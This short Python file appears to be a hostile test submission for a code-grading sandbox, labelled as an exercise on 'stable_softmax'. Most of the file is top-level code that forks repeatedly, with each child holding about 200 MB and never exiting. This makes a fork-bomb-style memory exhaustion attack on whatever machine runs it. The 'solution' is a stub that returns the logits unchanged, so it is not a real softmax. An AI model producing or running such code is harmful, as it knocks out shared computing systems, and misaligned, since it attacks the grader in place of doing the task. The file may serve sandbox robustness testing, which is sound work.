# exercise: stable_softmax
# tries: take all memory in many processes
# ends: any
import os, time

for _ in range(20):
    if os.fork() == 0:
        hoard = bytearray(200_000_000)
        time.sleep(60)
time.sleep(60)


def stable_softmax(logits):
    return logits
